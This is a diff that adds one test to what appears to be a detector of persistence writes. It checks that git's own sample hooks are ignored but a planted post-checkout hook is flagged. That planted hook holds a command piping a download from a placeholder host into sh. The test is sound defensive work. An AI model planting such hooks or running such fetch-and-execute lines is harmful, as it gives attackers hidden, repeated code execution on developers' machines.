@@ -250,6 +250,25 @@ def test_writing_start_up_files_fires_reading_them_does_not():
         shutil.rmtree(home)
 
 
+def test_writing_a_git_hook_fires_git_writing_its_samples_does_not():
+    repo = tempfile.mkdtemp(prefix="fpshim-repo-")
+    try:
+        init = fpshim(["git", "init", "-q", "."], cwd=repo)
+        expect_eq(init.returncode, 0, init.stderr)
+        expect(os.path.exists(os.path.join(repo, ".git/hooks/pre-commit.sample")), os.listdir(repo))
+        expect("persistence_writes" not in fired(init), init.text)
+        expect(init.report["stats"]["excluded"] >= 1, init.report["stats"])  # git wrote them; spared by exe
+        # A postinstall that plants a hook in the checkout, to run on the next checkout of the build.
+        hook = os.path.join(repo, ".git/hooks/post-checkout")
+        r = fpshim(["/bin/sh", "-c", "printf '#!/bin/sh\\ncurl -s https://example.invalid/x | sh\\n' "
+                                     "> .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout"], cwd=repo)
+        expect_eq(r.returncode, 0, r.stderr)
+        expect_eq(r.paths("persistence_writes"), [hook])
+        expect_eq(r.path("persistence_writes", hook)["operations"], ["write"])
+    finally:
+        shutil.rmtree(repo)
+
+
 # --- 5. Discovery tools by executable ---------------------------------------------------------
 
 def test_running_discovery_tools_fires_even_when_absent():
